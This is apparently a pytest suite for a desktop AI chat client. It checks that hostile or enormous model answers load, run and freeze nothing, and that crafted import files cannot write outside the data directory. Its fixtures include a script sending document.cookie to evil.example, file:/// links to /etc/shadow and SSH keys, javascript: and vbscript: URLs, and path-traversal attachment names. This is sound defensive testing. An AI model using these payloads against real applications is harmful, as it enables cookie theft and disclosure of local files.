"""Hostile content: model output that tries to load, run or freeze, and hostile imports.

The answer arrives in the real window's transcript the way the window shows tokens
(`AssistantMessageView.append`, then the final status), in small pieces fed from a
timer as a fast model would send them. A second timer measures the longest stretch
the event loop was blocked. Imports go through `maverick-desk conversations import`.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from PySide6.QtCore import QCoreApplication, QElapsedTimer, QEvent, QObject, QTimer, QUrl, Slot
from PySide6.QtGui import QDesktopServices

from app.storage import ConversationStore, MessageStatus, export_json
from app.ui.bridge.bridge import WorkerBridge
from app.ui.main_window import MainWindow
from app.ui.markdown.render_budget import PLAIN_NOTE
from app.ui.settings.settings_store import SettingsStore
from app.ui.transcript.assistant_message_view import AssistantMessageView
from app.ui.transcript.conversation import Message, Role, Status

from .conftest import record

ROOT = Path(__file__).resolve().parents[2]
SAFE_HREF = ("http://", "https://", "mailto:", "copy-code:")

HOSTILE = """Here is your answer.

<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<iframe src="https://evil.example/frame"></iframe>
<img src="https://evil.example/pixel.png"> <img src="file:///etc/passwd">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url("https://evil.example/a.css"); p { background: url(file:///etc/hosts) }</style>
<a href="javascript:alert(1)">raw anchor</a> <a href="file:///etc/shadow">raw file</a>

![remote](https://evil.example/tracker.gif) ![disk](file:///home/user/.ssh/id_rsa)
![data](data:image/png;base64,iVBORw0KGgo=)

[run me](javascript:alert(document.cookie)) [local file](file:///etc/shadow)
[vb](vbscript:msgbox) [data link](data:text/html,<script>alert(1)</script>)
<javascript:alert(2)> <file:///etc/passwd>

[ref link][evil]

[evil]: javascript:alert(3)

A safe link: [example](https://example.org/page).
"""


def _table(rows: int, cols: int) -> str:
    head = "| " + " | ".join(f"col {c}" for c in range(cols)) + " |\n"
    rule = "|" + "---|" * cols + "\n"
    body = "".join(
        "| " + " | ".join(f"r{r}c{c}" for c in range(cols)) + " |\n" for r in range(rows)
    )
    return head + rule + body


CONTENT = {
    "hostile markup": HOSTILE,
    "table 60 x 8": _table(60, 8) + "\nAfter the table.\n",
    "table 3,000 x 20": _table(3000, 20) + "\nAfter the table.\n",
    "nested quotes 3,000 deep": ">" * 3000 + " deep\n",
    "one line of 300,000 characters": "a" * 300_000 + "\n",
    "100,000 list items": "".join(f"- item {i}\n" for i in range(100_000)),
}


@pytest.fixture
def window(qtbot: object, demo_bf16: Path, data_dir: Path) -> Iterator[MainWindow]:
    win = MainWindow(WorkerBridge(demo_bf16), SettingsStore(data_dir / "settings.ini"))
    win.resize(1100, 800)
    win.show()
    yield win
    win.close()
    win.bridge.close()
    win.deleteLater()
    QCoreApplication.sendPostedEvents(None, QEvent.Type.DeferredDelete)


def _stream(qtbot: object, window: MainWindow, text: str, piece: int) -> tuple[float, float]:
    """Feed `text` into a new answer from a timer; returns (seconds, longest block in ms)."""
    message = window.conversation.add(Message(Role.ASSISTANT, "", status=Status.STREAMING))
    view = AssistantMessageView(message)
    window.transcript.add(view)
    clock = QElapsedTimer()
    clock.start()
    last = [0]
    worst = [0]

    def tick() -> None:
        now = clock.elapsed()
        worst[0] = max(worst[0], now - last[0])
        last[0] = now

    ticker = QTimer()
    ticker.timeout.connect(tick)
    ticker.start(10)
    offset = [0]

    def feed() -> None:
        if offset[0] >= len(text):
            feeder.stop()
            view.set_status(Status.COMPLETE)
            return
        view.append(text[offset[0] : offset[0] + piece])
        offset[0] += piece

    feeder = QTimer()
    feeder.timeout.connect(feed)
    feeder.start(2)
    started = time.perf_counter()
    qtbot.waitUntil(  # type: ignore[attr-defined]
        lambda: view.message.status is Status.COMPLETE and view.body.settled, timeout=120_000
    )
    qtbot.wait(50)  # type: ignore[attr-defined]
    ticker.stop()
    return time.perf_counter() - started, float(worst[0])


def test_hostile_and_enormous_answers_load_nothing_run_nothing_freeze_nothing(
    qtbot: object, window: MainWindow
) -> None:
    opened: list[str] = []

    class Urls(QObject):
        @Slot(QUrl)
        def open(self, url: QUrl) -> None:
            opened.append(url.toString())

    urls = Urls()
    schemes = ("http", "https", "file", "javascript", "data", "vbscript")
    for scheme in schemes:
        QDesktopServices.setUrlHandler(scheme, urls, "open")
    figures: dict[str, Any] = {}
    try:
        for name, text in CONTENT.items():
            window.new_chat()
            seconds, worst_ms = _stream(qtbot, window, text, piece=max(40, len(text) // 400))
            view = window.assistant_views()[-1]
            for browser in view.body.browsers():
                assert browser.resource_requests == [], (name, browser.resource_requests)
                document = browser.document().toHtml()
                assert "<img" not in document and "<script" not in document, name
                for href in document.split('href="')[1:]:
                    assert href.startswith(SAFE_HREF), (name, href[:60])
            # Clicking through every anchor opens only the web link.
            for browser in view.body.browsers():
                browser.anchorClicked.emit(QUrl("javascript:alert(1)"))
                browser.anchorClicked.emit(QUrl("file:///etc/passwd"))
            assert seconds < 60, (name, seconds)
            assert worst_ms < 1500, (name, worst_ms)
            figures[name] = {"seconds": round(seconds, 2), "longest_block_ms": worst_ms}
        shown = window.assistant_views()[-1].body.plain_text()
        assert "item 99999" in shown  # even the largest answer is all there
    finally:
        for scheme in schemes:
            QDesktopServices.unsetUrlHandler(scheme)
    assert opened == []
    record("hostile_output", figures=figures)


def test_a_table_too_large_to_format_is_shown_as_plain_text(
    qtbot: object, window: MainWindow
) -> None:
    _stream(qtbot, window, _table(3000, 20), piece=2000)
    shown = window.assistant_views()[-1].body.plain_text()
    assert PLAIN_NOTE in shown and "r2999c19" in shown
    window.new_chat()
    _stream(qtbot, window, _table(20, 4), piece=50)
    shown = window.assistant_views()[-1].body.plain_text()
    assert PLAIN_NOTE not in shown and "r19c3" in shown and "|" not in shown  # a real table


# ------------------------------------------------------------------ hostile imports


def _export(tmp_path: Path) -> dict[str, Any]:
    tmp_path.mkdir(parents=True)
    image = tmp_path / "pic.png"
    Image.new("RGB", (64, 48), (10, 200, 30)).save(image)
    with ConversationStore.open(tmp_path / "source") as source:
        cid = source.create_conversation()
        source.add_user_message(cid, "what is this?", [image])
        mid = source.begin_assistant_message(cid)
        source.finish_assistant_message(mid, MessageStatus.COMPLETE, text="a green box")
        path = export_json(source, [cid], tmp_path / "valid.json")
    document: dict[str, Any] = json.loads(path.read_text("utf-8"))
    return document


def _files(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def _import(file: Path, data: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "app", "conversations", "import", str(file)],
        capture_output=True, text=True, timeout=120, cwd=ROOT,
        env=dict(os.environ, PYTHONPATH=str(ROOT), MAVERICK_DESK_DATA_DIR=str(data)),
    )  # fmt: skip


def test_hostile_imports_write_nothing_outside_the_data_dir(tmp_path: Path) -> None:
    valid = _export(tmp_path / "made")
    attachment = valid["conversations"][0]["messages"][0]["attachments"][0]
    cases: dict[str, tuple[Any, str]] = {}

    def variant(name: str, change: Any, expected: str) -> None:
        document = json.loads(json.dumps(valid))
        change(document)
        cases[name] = (document, expected)

    def set_name(value: str) -> Any:
        return lambda d: d["conversations"][0]["messages"][0]["attachments"][0].update(name=value)

    variant("parent path", set_name("../../../outside.png"), "is not a plain file name")
    variant("absolute path", set_name(str(tmp_path / "outside.png")), "not a plain file name")
    variant(
        "absurd width",
        lambda d: d["conversations"][0]["messages"][0]["attachments"][0].update(width=10**12),
        "1000000000000 is outside 1…100000",
    )
    variant(
        "absurd text",
        lambda d: d["conversations"][0]["messages"][1].update(text="x" * 6_000_000),
        "6,000,000 characters",
    )
    variant(
        "image as traversal key",
        lambda d: d.update(images={"../../outside.png": base64.b64encode(b"x").decode()}),
        "",
    )
    cases["nested 200,000 deep"] = ("[" * 200_000, "nested too deeply")
    assert attachment["name"] == "pic.png"

    data = tmp_path / "home" / "data"
    watched = tmp_path / "home"
    (watched / "documents").mkdir(parents=True)
    for name, (document, expected) in cases.items():
        file = watched / "documents" / "import.json"
        file.write_text(document if isinstance(document, str) else json.dumps(document))
        before = _files(watched)
        result = _import(file, data)
        after = _files(watched)
        assert result.returncode != 0, name
        assert "Traceback" not in result.stderr and result.stderr.strip(), name
        if expected:
            assert expected in result.stderr, (name, result.stderr)
        new_outside = {p for p in after - before if not p.startswith("data")}
        assert not new_outside, (name, new_outside)
        assert not any("outside" in p for p in _files(tmp_path)), name
    # The control: the untouched export imports.
    file = watched / "documents" / "import.json"
    file.write_text(json.dumps(valid))
    result = _import(file, data)
    assert result.returncode == 0 and "imported conversation" in result.stdout, result.stderr
    record("hostile_imports", cases=sorted(cases))
